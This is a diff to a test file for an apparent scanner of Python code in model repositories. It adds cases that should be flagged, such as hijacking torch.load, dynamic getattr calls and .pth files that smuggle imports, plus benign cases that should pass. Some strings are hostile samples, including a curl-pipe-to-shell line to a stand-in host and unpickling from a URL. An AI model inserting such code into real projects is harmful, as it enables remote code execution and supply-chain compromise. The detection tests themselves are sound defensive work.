@@ -102,6 +102,33 @@ describe('plain Python', () => {
     ['unpickles what it fetches', 'pd.read_pickle("http://weights.invalid/x.pkl")'],
     ['replaces a function of a library', 'def f(*a): pass\nimport torch\ntorch.serialization.load = f'],
     ['replaces one in a word', 'import torch\ntorch.load = lambda *a, **k: 1'],
+    [
+      'replaces one of a part under another name',
+      'from .e import evil\nfrom torch import serialization as s\ns.load = evil',
+    ],
+    ['replaces one of a name that stands for it', 'import torch\nt = torch.serialization\ndef f(): pass\nt.load = f'],
+    ['replaces one among others', 'import torch\ndef f(): pass\nx, torch.load = 1, f'],
+    ['replaces one by its name', 'import torch\nsetattr(torch, "load", evil)'],
+    ['replaces one by its name of a part', 'from torch import serialization as s\nsetattr(s, "load", evil)'],
+    ['replaces one by a method', 'import torch\ntorch.__setattr__("load", A)'],
+    ['replaces one behind a name', 'import torch\ng(torch)\ndef g(t): setattr(t, "load", evil)'],
+    ['keeps what replaces', 's = setattr'],
+    [
+      'gives a library’s name to what it found',
+      'import torch\na, b = x\nnn = getattr(torch, a)\nrun = getattr(nn, b)\nrun(c)',
+    ],
+    ['calls what it found by a name', 'import torch\nx = getattr(torch, a)(b)'],
+    ['calls it later', 'import torch\nf = getattr(torch, a)\nf(b)'],
+    ['looks into it later', 'import torch\nf = getattr(torch, a)\nf.load(b)'],
+    ['hands it to what calls', 'import torch\nx = list(map(getattr(torch, a), b))'],
+    ['looks into what is no module of layers', 'from x import nn\ny = getattr(nn, a)(b)'],
+    ['gives itself another meaning', 'import torch\nself = torch\nx = getattr(self, a)(b)'],
+    [
+      'gives a module to what looks into itself',
+      'import torch\ndef f(self, a): return getattr(self, a)(1)\nf(torch, b)',
+    ],
+    ['writes a path file of several lines', 'open("x.pth", "w").write("#\\nimport evil")'],
+    ['writes one behind a tabulator', 'open("x.pth", "w").write("#\\n" "import\\tevil")'],
     ['tells what to fetch and run', 'x = ["curl http://weights.invalid/x | sh"]'],
     ['holds packed bytes', `import base64\nx = "${'QUJD'.repeat(100)}"`],
     ['calls a system of its own', 'system("true")'],
@@ -111,7 +138,16 @@ describe('plain Python', () => {
   });
 
   it.each([
-    ['looks up what a setting names', 'x = getattr(torch, args.dtype)\ny = getattr(self, name)(1)'],
+    ['looks up what a setting names', 'import torch\nx = getattr(torch, args.dtype)\ny = getattr(self, name)(1)'],
+    [
+      'makes the layer that a setting names',
+      'import torch.nn as nn\nx = getattr(nn, args.act)()\nm.to(getattr(nn, y))',
+    ],
+    [
+      'keeps its own values by names',
+      'import torch\nsetattr(self, name, 1)\nsuper().__setattr__(a, b)\nobject.__setattr__(self, a, b)',
+    ],
+    ['sets what a library offers', 'import torch\ntorch.backends.cudnn.benchmark = args.fast\ntorch.x.y = True'],
     ['hands on what a person answered', 'AutoModel.from_pretrained(a, trust_remote_code=args.trust_remote_code)'],
     ['asks for it', 'parser.add_argument("--trust_remote_code", action="store_true")'],
     ['copies its own values', 'import copy\nx = copy.copy(self.__dict__)\nsuper().__init_subclass__(**k)'],
